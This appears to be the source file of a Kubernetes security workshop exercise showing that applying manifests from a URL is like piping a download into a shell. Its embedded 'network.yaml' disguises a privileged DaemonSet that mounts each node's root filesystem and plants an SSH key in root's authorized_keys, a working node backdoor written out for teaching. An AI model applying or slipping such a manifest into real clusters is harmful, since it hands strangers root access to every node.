import { amount, asks, type Chapter, gone, has, prints, unchanged } from '../../model';

/** A web site inside of the cluster that stands for one of the world: its pages are manifests. */
const site = `apiVersion: v1
kind: Namespace
metadata:
  name: web
---
apiVersion: v1
kind: ConfigMap
metadata:
  name: pages
  namespace: web
data:
  hello.yaml: |
    apiVersion: v1
    kind: Namespace
    metadata:
      name: guests
    ---
    apiVersion: v1
    kind: ConfigMap
    metadata:
      name: hello
      namespace: guests
    data:
      greeting: Welcome!
  network.yaml: |
    apiVersion: v1
    kind: ConfigMap
    metadata:
      name: network
      namespace: guests
    data:
      speed: fast
    ---
    apiVersion: v1
    kind: Namespace
    metadata:
      name: telemetry
    ---
    apiVersion: apps/v1
    kind: DaemonSet
    metadata:
      name: miner
      namespace: telemetry
    spec:
      selector:
        matchLabels:
          app: miner
      template:
        metadata:
          labels:
            app: miner
        spec:
          tolerations:
            - operator: Exists
          containers:
            - name: miner
              image: busybox
              command:
                - sh
                - -c
                - mkdir -p /node/root/.ssh; echo 'ssh-ed25519 AAAA stranger' >/node/root/.ssh/authorized_keys; sleep 1d
              volumeMounts:
                - name: node
                  mountPath: /node
          volumes:
            - name: node
              hostPath:
                path: /
---
apiVersion: apps/v1
kind: Deployment
metadata:
  name: site
  namespace: web
spec:
  selector:
    matchLabels:
      app: site
  template:
    metadata:
      labels:
        app: site
    spec:
      containers:
        - name: nginx
          image: nginx
          volumeMounts:
            - name: pages
              mountPath: /usr/share/nginx/html
      volumes:
        - name: pages
          configMap:
            name: pages
---
apiVersion: v1
kind: Service
metadata:
  name: site
  namespace: web
spec:
  type: NodePort
  selector:
    app: site
  ports:
    - port: 80
`;

const OPENED = 'kubectl apply -f site.yaml && kubectl rollout status -n web deployment/site';

/** What may come along when a manifest is applied from an address of the web. */
export const applyFromUrl: Chapter = {
  workshop: 'COINS',
  title: 'Security implications of kubectl apply',
  profile: 'workshop',
  exercises: [
    {
      id: 'COINS-14',
      title: 'kubectl apply -f URL is like curl | sh',
      goal: 'You have seen what a manifest from a stranger can bring.',
      nature: 'claim',
      continues: true,
      begin: { files: { 'site.yaml': site }, commands: OPENED },
      steps: [
        {
          task:
            'Apply a manifest directly from a web site. One stands ready in the cluster itself, and serves hello.yaml: it makes ' +
            'a namespace and a ConfigMap in it.',
          hand: OPENED,
          run: 'kubectl apply -f {{url svc/web/site}}hello.yaml',
          original: {
            run: 'kubectl apply -f <URL>',
            why: 'Any address will do; here it is that of the web site in the cluster.',
          },
          see: [
            prints('namespace/guests created\nconfigmap/hello created'),
            has('configmaps/hello', { data: { greeting: 'Welcome!' } }, 'guests'),
          ],
          moral:
            'It is as convenient as piping a download into a shell, and as safe: only as safe as the site and the way to it.',
        },
        {
          task:
            'Apply network.yaml from the same site. It promises a faster network, but makes more than a ConfigMap: look at all ' +
            'namespaces, at all nodes, and at the accounts of root there.',
          run: 'kubectl apply -f {{url svc/web/site}}network.yaml',
          see: [
            prints('configmap/network created\nnamespace/telemetry created\ndaemonset.apps/miner created'),
            has('configmaps/network', { data: { speed: 'fast' } }, 'guests'),
            has('namespaces/telemetry'),
            amount(3, 'pods', 'app=miner', { status: { phase: 'Running' } }, 'telemetry'),
            asks('workshop cluster ssh node1 -- cat /root/.ssh/authorized_keys', prints('ssh-ed25519 AAAA stranger')),
            unchanged(gone('daemonsets/miner')),
          ],
          moral:
            'Nobody was asked. A program now runs on every node, the control plane included, in a namespace that few will look ' +
            "at; it has the nodes' files at its hands, and has let a stranger in. Apply what you have read, or what comes over " +
            'HTTPS from somebody whom you trust.',
        },
      ],
    },
  ],
};
